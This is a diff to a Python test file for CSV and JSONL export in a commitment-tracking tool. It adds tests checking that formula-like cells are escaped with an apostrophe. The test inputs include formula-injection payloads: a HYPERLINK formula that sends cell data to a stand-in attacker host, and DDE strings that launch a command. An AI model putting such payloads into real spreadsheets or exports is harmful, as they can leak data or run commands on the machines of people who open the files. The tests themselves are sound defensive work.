@@ -59,8 +59,37 @@ def test_facets_list_what_each_filter_can_be(tracker):
 
 def test_csv_and_jsonl_exports_hold_every_row(tracker):
     rows = tracker.filter(CommitmentFilter(types=("welcome",)))
-    table = list(csv.DictReader(io.StringIO(to_csv(rows))))
+    table = list(csv.DictReader(io.StringIO(to_csv(rows).removeprefix("\ufeff"))))
     assert tuple(table[0]) == CSV_COLUMNS and len(table) == len(rows)
     assert table[0]["sentence"] == rows[0].sentence and table[0]["type"] == "welcome"
     lines = to_jsonl(rows).splitlines()
     assert [Commitment.model_validate(json.loads(line)).id for line in lines] == [c.id for c in rows]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://attacker.example/?x="&A1,"details")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "  =1+1",
+        "\uff1d1+1",
+    ],
+)
+def test_a_csv_cell_that_starts_like_a_formula_gets_a_leading_apostrophe(tracker, text):
+    row = tracker.filter(CommitmentFilter())[0]
+    hostile = row.model_copy(update={"sentence": text, "meeting": text, "section": text})
+    out = to_csv([hostile])
+    assert out.startswith("\ufeff")
+    table = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"))))
+    for column in ("sentence", "meeting", "section"):
+        assert table[0][column] == "'" + text
+
+
+def test_ordinary_csv_cells_are_left_as_they_are(tracker):
+    row = tracker.filter(CommitmentFilter())[0]
+    table = list(csv.DictReader(io.StringIO(to_csv([row]).removeprefix("\ufeff"))))
+    assert table[0]["sentence"] == row.sentence and table[0]["date"] == row.date
